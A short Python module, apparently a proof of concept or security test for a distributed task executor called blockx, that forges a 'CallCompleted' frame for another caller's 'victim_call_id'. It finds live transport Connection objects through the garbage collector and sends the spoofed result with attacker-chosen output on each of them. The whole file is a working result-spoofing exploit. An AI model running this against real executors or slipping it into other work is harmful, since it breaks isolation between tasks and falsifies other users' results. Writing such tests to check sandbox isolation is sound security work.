"""forge_frame(victim_call_id, output): from inside an executor, answer for a call
that runs elsewhere: write a CallCompleted for `victim_call_id` on this
executor's own Worker connection."""
import gc

from blockx._fast import load
from blockx_executor.transport import Connection


def main(victim_call_id, output):
    conns = [o for o in gc.get_objects() if isinstance(o, Connection)]
    codec = load("codec")
    frame = codec.encode_frame({"messageType": "CallCompleted", "callId": victim_call_id, "requestId": "",
                                "payload": {"taskId": victim_call_id.split("/")[0], "attemptSeq": 1, "output": output, "budgetUsedMs": 0}})
    for conn in conns:
        conn.send_now(frame)
    return len(conns)
